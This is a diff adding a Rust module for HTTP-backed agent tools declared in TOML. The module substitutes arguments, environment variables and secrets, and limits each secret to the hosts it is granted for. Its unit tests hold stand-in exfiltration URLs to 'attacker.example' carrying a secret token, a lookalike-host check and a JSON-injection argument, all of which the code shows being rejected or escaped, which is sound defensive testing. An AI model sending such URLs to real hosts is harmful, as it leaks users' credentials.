@@ -0,0 +1,581 @@
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use reqwest::Url;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use thiserror::Error;
+
+use crate::config::ToolsConfig;
+use crate::env::EnvPolicy;
+use crate::http::{HostAllowlist, HttpError, HttpMethod, HttpRequest, HttpTool};
+use crate::registry::{SideEffect, ToolSpec};
+
+pub const TOOLS_DIR: &str = ".alfred/tools";
+
+#[derive(Debug, Error)]
+pub enum TemplateError {
+    #[error("failed to read {path}: {source}")]
+    Io {
+        path: PathBuf,
+        source: std::io::Error,
+    },
+    #[error("failed to parse {path}: {message}")]
+    Parse { path: PathBuf, message: String },
+    #[error("tool `{tool}`: {message}")]
+    Invalid { tool: String, message: String },
+    #[error("missing required argument `{0}`")]
+    MissingArgument(String),
+    #[error("environment variable `{0}` is not set or is hidden by the env policy")]
+    MissingEnv(String),
+    #[error("secret `{0}` is not defined")]
+    MissingSecret(String),
+    #[error("`${{{0}}}` is not granted to tool templates; list it under `[tools]` in ~/.config/alfred/config.toml")]
+    NotGranted(String),
+    #[error("`${{{name}}}` may not be sent to `{host}`; add the host to its grant under `[tools]` in ~/.config/alfred/config.toml")]
+    HostNotGranted { name: String, host: String },
+    #[error("response has no value at `{0}`")]
+    Extract(String),
+    #[error("response is not JSON: {0}")]
+    NotJson(String),
+    #[error(transparent)]
+    Http(#[from] HttpError),
+}
+
+// An agent tool backed by a REST endpoint, declared in
+// `.alfred/tools/<name>.toml`:
+//
+//     name = "ticket_status"
+//     description = "Look up a ticket"
+//     method = "GET"
+//     url = "https://tickets.example.com/api/tickets/{{id}}"
+//     extract = "data.status"
+//
+//     [headers]
+//     Authorization = "Bearer ${secret:TICKETS_TOKEN}"
+//
+//     [parameters]
+//     type = "object"
+//     required = ["id"]
+//     properties.id = { type = "string" }
+//
+// `{{arg}}` is replaced by a call argument: percent-encoded in the URL and
+// JSON-escaped in the body, so string arguments go inside quotes there
+// (`"title": "{{title}}"`). `${env:NAME}` is replaced by an environment
+// variable and `${secret:NAME}` by an entry of
+// `~/.config/alfred/secrets.toml`, escaped the same way, but only for names
+// granted in the global config and only in requests to the hosts granted
+// with them (see `TemplateValues`). Without a `body` template, non-GET
+// requests send the arguments as a JSON object.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct HttpTemplate {
+    pub name: String,
+    pub description: String,
+    #[serde(default = "empty_schema")]
+    pub parameters: Value,
+    #[serde(default)]
+    pub method: HttpMethod,
+    pub url: String,
+    #[serde(default)]
+    pub headers: BTreeMap<String, String>,
+    pub body: Option<String>,
+    // Dotted path into the JSON response, e.g. `data.items[0].status`.
+    pub extract: Option<String>,
+    pub timeout_ms: Option<u64>,
+    // Defaults to `network` for GET and `transactional` otherwise.
+    pub side_effect: Option<SideEffect>,
+}
+
+fn empty_schema() -> Value {
+    serde_json::json!({ "type": "object", "properties": {} })
+}
+
+// The values `${env:NAME}` and `${secret:NAME}` may resolve to: names listed
+// in the global `[tools]` section, with environment variables read through
+// the env policy so denied names stay hidden. Each one only goes to the hosts
+// its grant lists, whatever the project's network allowlist says.
+#[derive(Debug, Clone, Default)]
+pub struct TemplateValues {
+    // `env:NAME` or `secret:NAME` to its value, if it has one.
+    granted: BTreeMap<String, Granted>,
+}
+
+#[derive(Debug, Clone)]
+struct Granted {
+    value: Option<String>,
+    hosts: HostAllowlist,
+}
+
+impl TemplateValues {
+    pub fn new(
+        grants: &ToolsConfig,
+        env: &EnvPolicy,
+        secrets: &BTreeMap<String, String>,
+    ) -> Result<Self, TemplateError> {
+        let visible = env.effective_from_process();
+        let mut granted = BTreeMap::new();
+        for (kind, names, values) in [("env", &grants.env, &visible), ("secret", &grants.secrets, secrets)] {
+            for (name, hosts) in names {
+                let grant = Granted {
+                    value: values.get(name).cloned(),
+                    hosts: HostAllowlist::new(hosts)?,
+                };
+                granted.insert(format!("{}:{}", kind, name), grant);
+            }
+        }
+        Ok(Self { granted })
+    }
+
+    // The value for `key`, e.g. `secret:TICKETS_TOKEN`.
+    fn get(&self, key: &str) -> Result<String, TemplateError> {
+        match self.granted.get(key).map(|grant| &grant.value) {
+            Some(Some(value)) => Ok(value.clone()),
+            Some(None) => match key.split_once(':') {
+                Some(("env", name)) => Err(TemplateError::MissingEnv(name.to_string())),
+                _ => Err(TemplateError::MissingSecret(key.trim_start_matches("secret:").to_string())),
+            },
+            None => Err(TemplateError::NotGranted(key.to_string())),
+        }
+    }
+
+    // Checks that every value in `used` may go to the host of `url`.
+    fn check_hosts(&self, used: &[String], url: &str) -> Result<(), TemplateError> {
+        if used.is_empty() {
+            return Ok(());
+        }
+        let url = Url::parse(url).map_err(|_| HttpError::InvalidUrl(url.to_string()))?;
+        for key in used {
+            if !self.granted.get(key).is_some_and(|grant| grant.hosts.is_allowed(&url)) {
+                return Err(TemplateError::HostNotGranted {
+                    name: key.clone(),
+                    host: url.host_str().unwrap_or_default().to_string(),
+                });
+            }
+        }
+        Ok(())
+    }
+}
+
+// How substituted values are escaped for where they land.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Encoding {
+    // Arguments are percent-encoded.
+    Url,
+    // Strings are escaped for use inside a JSON string literal.
+    Json,
+    Plain,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct TemplateOutput {
+    pub status: u16,
+    pub result: Value,
+}
+
+impl HttpTemplate {
+    pub fn parse(path: &Path, content: &str) -> Result<Self, TemplateError> {
+        let template: Self = toml::from_str(content).map_err(|e| TemplateError::Parse {
+            path: path.to_path_buf(),
+            message: e.to_string(),
+        })?;
+        template.validate()?;
+        Ok(template)
+    }
+
+    fn validate(&self) -> Result<(), TemplateError> {
+        let invalid = |message: &str| TemplateError::Invalid {
+            tool: self.name.clone(),
+            message: message.to_string(),
+        };
+        if self.name.is_empty() || !self.name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
+            return Err(invalid("names may only use letters, digits, `_` and `-`"));
+        }
+        if !self.parameters.is_object() {
+            return Err(invalid("`parameters` must be a JSON Schema object"));
+        }
+        // Whatever the file says, it still talks to the network.
+        if matches!(self.side_effect, Some(SideEffect::ReadOnly | SideEffect::WritesFs)) {
+            return Err(invalid("HTTP tools are `network` or `transactional`"));
+        }
+        Ok(())
+    }
+
+    pub fn side_effect(&self) -> SideEffect {
+        self.side_effect.unwrap_or(match self.method {
+            HttpMethod::Get => SideEffect::Network,
+            _ => SideEffect::Transactional,
+        })
+    }
+
+    fn uses_values(&self) -> bool {
+        let mut templates = [Some(&self.url), self.body.as_ref()].into_iter().flatten().chain(self.headers.values());
+        templates.any(|template| template.contains("${env:") || template.contains("${secret:"))
+    }
+
+    pub fn spec(&self) -> ToolSpec {
+        ToolSpec {
+            name: self.name.clone(),
+            description: self.description.clone(),
+            parameters: self.parameters.clone(),
+            side_effect: self.side_effect(),
+        }
+    }
+
+    // Fills in the templates. Fails rather than put a granted value in a
+    // request to a host its grant doesn't list.
+    pub fn render(&self, arguments: &Value, values: &TemplateValues) -> Result<HttpRequest, TemplateError> {
+        let empty = serde_json::Map::new();
+        let arguments = arguments.as_object().unwrap_or(&empty);
+        let required = self.parameters.get("required").and_then(Value::as_array);
+        for name in required.into_iter().flatten().filter_map(Value::as_str) {
+            if !arguments.contains_key(name) {
+                return Err(TemplateError::MissingArgument(name.to_string()));
+            }
+        }
+
+        let mut used = Vec::new();
+        let url = expand(&self.url, arguments, values, Encoding::Url, &mut used)?;
+        let mut headers = BTreeMap::new();
+        for (name, value) in &self.headers {
+            headers.insert(name.clone(), expand(value, arguments, values, Encoding::Plain, &mut used)?);
+        }
+        let body = match (&self.body, self.method) {
+            (Some(body), _) => Some(expand(body, arguments, values, Encoding::Json, &mut used)?),
+            (None, HttpMethod::Get) => None,
+            (None, _) => {
+                headers
+                    .entry("Content-Type".to_string())
+                    .or_insert_with(|| "application/json".to_string());
+                Some(Value::Object(arguments.clone()).to_string())
+            }
+        };
+        values.check_hosts(&used, &url)?;
+        Ok(HttpRequest {
+            method: self.method,
+            url,
+            headers,
+            body,
+            timeout_ms: self.timeout_ms,
+        })
+    }
+
+    pub async fn call(
+        &self,
+        http: &HttpTool,
+        arguments: &Value,
+        values: &TemplateValues,
+    ) -> Result<TemplateOutput, TemplateError> {
+        let request = self.render(arguments, values)?;
+        // A redirect could carry granted values to a host they weren't
+        // granted for.
+        let mut http = http.clone();
+        if self.uses_values() {
+            http.max_redirects = 0;
+        }
+        let response = http.fetch(&request).await?;
+        let result = match &self.extract {
+            Some(path) => {
+                let json: Value =
+                    serde_json::from_str(&response.body).map_err(|e| TemplateError::NotJson(e.to_string()))?;
+                extract(&json, path)
+                    .cloned()
+                    .ok_or_else(|| TemplateError::Extract(path.clone()))?
+            }
+            None => serde_json::from_str(&response.body).unwrap_or(Value::String(response.body)),
+        };
+        Ok(TemplateOutput {
+            status: response.status,
+            result,
+        })
+    }
+}
+
+// Loads `.alfred/tools/*.toml` under `root`, sorted by file name. A missing
+// directory means no templates.
+pub fn load_templates(root: &Path) -> Result<Vec<HttpTemplate>, TemplateError> {
+    let dir = root.join(TOOLS_DIR);
+    let io_error = |source| TemplateError::Io {
+        path: dir.clone(),
+        source,
+    };
+    let entries = match std::fs::read_dir(&dir) {
+        Ok(entries) => entries,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
+        Err(e) => return Err(io_error(e)),
+    };
+    let mut paths = Vec::new();
+    for entry in entries {
+        let path = entry.map_err(io_error)?.path();
+        if path.extension().is_some_and(|ext| ext == "toml") {
+            paths.push(path);
+        }
+    }
+    paths.sort();
+
+    let mut templates: Vec<HttpTemplate> = Vec::new();
+    for path in paths {
+        let content = std::fs::read_to_string(&path).map_err(|source| TemplateError::Io {
+            path: path.clone(),
+            source,
+        })?;
+        let template = HttpTemplate::parse(&path, &content)?;
+        if templates.iter().any(|other| other.name == template.name) {
+            return Err(TemplateError::Invalid {
+                tool: template.name,
+                message: format!("defined more than once (again in {})", path.display()),
+            });
+        }
+        templates.push(template);
+    }
+    Ok(templates)
+}
+
+fn expand(
+    template: &str,
+    arguments: &serde_json::Map<String, Value>,
+    values: &TemplateValues,
+    encoding: Encoding,
+    used: &mut Vec<String>,
+) -> Result<String, TemplateError> {
+    let mut out = String::with_capacity(template.len());
+    let mut rest = template;
+    loop {
+        let next = [rest.find("{{"), rest.find("${")].into_iter().flatten().min();
+        let Some(start) = next else {
+            out.push_str(rest);
+            return Ok(out);
+        };
+        out.push_str(&rest[..start]);
+        let (close, skip) = if rest[start..].starts_with("{{") { ("}}", 2) } else { ("}", 2) };
+        let Some(len) = rest[start + skip..].find(close) else {
+            out.push_str(&rest[start..]);
+            return Ok(out);
+        };
+        let key = rest[start + skip..start + skip + len].trim();
+        let value = if close == "}}" {
+            match (arguments.get(key), encoding) {
+                (Some(Value::Null) | None, _) => String::new(),
+                (Some(Value::String(s)), Encoding::Url) => percent_encode(s),
+                (Some(Value::String(s)), Encoding::Json) => json_escape(s),
+                (Some(Value::String(s)), Encoding::Plain) => s.clone(),
+                (Some(other), Encoding::Url) => percent_encode(&other.to_string()),
+                // Numbers, booleans, arrays and objects are JSON already.
+                (Some(other), _) => other.to_string(),
+            }
+        } else if key.starts_with("env:") || key.starts_with("secret:") {
+            let value = values.get(key)?;
+            used.push(key.to_string());
+            match encoding {
+                Encoding::Url => percent_encode(&value),
+                Encoding::Json => json_escape(&value),
+                Encoding::Plain => value,
+            }
+        } else {
+            // Not ours; leave `${...}` alone.
+            rest[start..start + skip + len + close.len()].to_string()
+        };
+        out.push_str(&value);
+        rest = &rest[start + skip + len + close.len()..];
+    }
+}
+
+// `value` as the inside of a JSON string literal.
+fn json_escape(value: &str) -> String {
+    let quoted = Value::String(value.to_string()).to_string();
+    quoted[1..quoted.len() - 1].to_string()
+}
+
+fn percent_encode(value: &str) -> String {
+    let mut out = String::with_capacity(value.len());
+    for byte in value.bytes() {
+        match byte {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => out.push(byte as char),
+            _ => out.push_str(&format!("%{:02X}", byte)),
+        }
+    }
+    out
+}
+
+// Walks `a.b[0].c` (or `a.b.0.c`) through objects and arrays.
+fn extract<'a>(value: &'a Value, path: &str) -> Option<&'a Value> {
+    let mut current = value;
+    for segment in path.split(['.', '[']).filter(|segment| !segment.is_empty()) {
+        let segment = segment.trim_end_matches(']');
+        current = match current {
+            Value::Array(items) => items.get(segment.parse::<usize>().ok()?)?,
+            Value::Object(map) => map.get(segment)?,
+            _ => return None,
+        };
+    }
+    Some(current)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{EnvConfig, NetworkConfig};
+    use crate::http::tests::{respond, serve};
+
+    const TICKET: &str = r#"
+name = "ticket_status"
+description = "Look up a ticket"
+url = "http://127.0.0.1:PORT/tickets/{{id}}?q={{query}}"
+extract = "data.items[1].status"
+
+[headers]
+Authorization = "Bearer ${secret:TICKETS_TOKEN}"
+X-Ticket = "{{id}}"
+
+[parameters]
+type = "object"
+required = ["id"]
+properties.id = { type = "string" }
+"#;
+
+    // Both granted for 127.0.0.1 only.
+    fn values() -> TemplateValues {
+        let grant = |value: &str| Granted {
+            value: Some(value.to_string()),
+            hosts: HostAllowlist::new(&["127.0.0.1"]).unwrap(),
+        };
+        TemplateValues {
+            granted: BTreeMap::from([
+                ("env:TICKETS_USER".to_string(), grant("a\"b")),
+                ("secret:TICKETS_TOKEN".to_string(), grant("s3cret")),
+            ]),
+        }
+    }
+
+    #[test]
+    fn test_render_and_validate() {
+        let ticket = TICKET.replace("PORT", "8080");
+        let template = HttpTemplate::parse(Path::new("t.toml"), &ticket).unwrap();
+        assert_eq!(template.side_effect(), SideEffect::Network);
+        assert_eq!(template.spec().parameters["required"][0], "id");
+
+        let request = template
+            .render(&serde_json::json!({ "id": "A/1", "query": "a b" }), &values())
+            .unwrap();
+        assert_eq!(request.url, "http://127.0.0.1:8080/tickets/A%2F1?q=a%20b");
+        assert_eq!(request.headers["Authorization"], "Bearer s3cret");
+        assert_eq!(request.headers["X-Ticket"], "A/1");
+        assert!(request.body.is_none());
+
+        let err = template.render(&serde_json::json!({}), &values()).unwrap_err();
+        assert!(matches!(err, TemplateError::MissingArgument(name) if name == "id"));
+        let err = template.render(&serde_json::json!({ "id": 1 }), &TemplateValues::default()).unwrap_err();
+        assert!(matches!(err, TemplateError::NotGranted(name) if name == "secret:TICKETS_TOKEN"));
+
+        let post = ticket.replace("url =", "method = \"POST\"\nurl =");
+        let post = HttpTemplate::parse(Path::new("t.toml"), &post).unwrap();
+        assert_eq!(post.side_effect(), SideEffect::Transactional);
+        let request = post.render(&serde_json::json!({ "id": 7 }), &values()).unwrap();
+        assert_eq!(request.body.as_deref(), Some("{\"id\":7}"));
+
+        let with_body = HttpTemplate {
+            body: Some(r#"{"id": {{id}}, "title": "{{title}}", "user": "${env:TICKETS_USER}"}"#.to_string()),
+            ..post.clone()
+        };
+        let request = with_body
+            .render(&serde_json::json!({ "id": 7, "title": "a\", \"admin\": true, \"x\": \"" }), &values())
+            .unwrap();
+        let body: Value = serde_json::from_str(request.body.as_deref().unwrap()).unwrap();
+        assert_eq!(body, serde_json::json!({ "id": 7, "title": "a\", \"admin\": true, \"x\": \"", "user": "a\"b" }));
+        let leaky = HttpTemplate {
+            body: Some("${env:OPENROUTER_API_KEY}".to_string()),
+            ..post.clone()
+        };
+        let err = leaky.render(&serde_json::json!({ "id": 7 }), &values()).unwrap_err();
+        assert!(matches!(err, TemplateError::NotGranted(name) if name == "env:OPENROUTER_API_KEY"));
+
+        let in_url = HttpTemplate {
+            url: "http://127.0.0.1/?user=${env:TICKETS_USER}&t=${secret:TICKETS_TOKEN}".to_string(),
+            ..template.clone()
+        };
+        let request = in_url.render(&serde_json::json!({ "id": "7" }), &values()).unwrap();
+        assert_eq!(request.url, "http://127.0.0.1/?user=a%22b&t=s3cret");
+        let elsewhere = HttpTemplate {
+            url: "https://attacker.example/?t=${secret:TICKETS_TOKEN}".to_string(),
+            headers: BTreeMap::new(),
+            ..template.clone()
+        };
+        let err = elsewhere.render(&serde_json::json!({ "id": "7" }), &values()).unwrap_err();
+        assert!(matches!(err, TemplateError::HostNotGranted { host, .. } if host == "attacker.example"));
+
+        let sneaky = format!("{}\nside_effect = \"read_only\"\n", TICKET.split("[headers]").next().unwrap());
+        assert!(HttpTemplate::parse(Path::new("t.toml"), &sneaky).is_err());
+    }
+
+    #[test]
+    fn test_values_need_a_grant() {
+        let policy = EnvPolicy::from_config(&EnvConfig {
+            set: BTreeMap::from([("TICKETS_USER".to_string(), "bot".to_string())]),
+            ..EnvConfig::default()
+        })
+        .unwrap();
+        let hosts = vec!["tickets.internal".to_string()];
+        let grants = ToolsConfig {
+            // Cargo sets it for tests, but the default env policy hides it.
+            env: BTreeMap::from([("TICKETS_USER".to_string(), hosts.clone()), ("CARGO_PKG_NAME".to_string(), hosts.clone())]),
+            secrets: BTreeMap::from([("TICKETS_TOKEN".to_string(), hosts)]),
+        };
+        let secrets = BTreeMap::from([
+            ("TICKETS_TOKEN".to_string(), "s3cret".to_string()),
+            ("DEPLOY_TOKEN".to_string(), "other".to_string()),
+        ]);
+        let values = TemplateValues::new(&grants, &policy, &secrets).unwrap();
+        assert_eq!(values.get("env:TICKETS_USER").unwrap(), "bot");
+        assert!(matches!(values.get("env:CARGO_PKG_NAME"), Err(TemplateError::MissingEnv(name)) if name == "CARGO_PKG_NAME"));
+        assert!(matches!(values.get("env:PATH"), Err(TemplateError::NotGranted(_))));
+        assert_eq!(values.get("secret:TICKETS_TOKEN").unwrap(), "s3cret");
+        assert!(matches!(values.get("secret:DEPLOY_TOKEN"), Err(TemplateError::NotGranted(_))));
+        let used = vec!["secret:TICKETS_TOKEN".to_string()];
+        assert!(values.check_hosts(&used, "https://tickets.internal/api").is_ok());
+        assert!(values.check_hosts(&used, "https://tickets.internal.attacker.example/").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_load_and_call() {
+        let json = r#"{"data":{"items":[{"status":"open"},{"status":"closed"}]}}"#;
+        let port = serve(vec![("/tickets/7?q=", respond("200 OK", "application/json", json))]).await;
+
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join(TOOLS_DIR)).unwrap();
+        std::fs::write(
+            dir.path().join(TOOLS_DIR).join("ticket.toml"),
+            TICKET.replace("PORT", &port.to_string()),
+        )
+        .unwrap();
+        std::fs::write(dir.path().join(TOOLS_DIR).join("notes.md"), "ignored").unwrap();
+        let templates = load_templates(dir.path()).unwrap();
+        assert_eq!(templates.len(), 1);
+
+        let denied = HttpTool::from_config(&NetworkConfig::default()).unwrap();
+        let err = templates[0].call(&denied, &serde_json::json!({ "id": "7" }), &values()).await.unwrap_err();
+        assert!(matches!(err, TemplateError::Http(HttpError::HostNotAllowed(_))));
+
+        let http = HttpTool::from_config(&NetworkConfig {
+            allow_hosts: vec!["127.0.0.1".to_string()],
+        })
+        .unwrap();
+        let output = templates[0].call(&http, &serde_json::json!({ "id": "7" }), &values()).await.unwrap();
+        assert_eq!(output.status, 200);
+        assert_eq!(output.result, "closed");
+
+        // A host the project put on the network allowlist doesn't get the
+        // token, which is granted for 127.0.0.1 only.
+        let project_host = HttpTemplate {
+            url: format!("http://localhost:{}/tickets/{{{{id}}}}", port),
+            ..templates[0].clone()
+        };
+        let http = HttpTool::from_config(&NetworkConfig {
+            allow_hosts: vec!["127.0.0.1".to_string(), "localhost".to_string()],
+        })
+        .unwrap();
+        let err = project_host.call(&http, &serde_json::json!({ "id": "7" }), &values()).await.unwrap_err();
+        assert!(matches!(err, TemplateError::HostNotGranted { host, .. } if host == "localhost"));
+
+        assert!(load_templates(&dir.path().join("missing")).unwrap().is_empty());
+    }
+}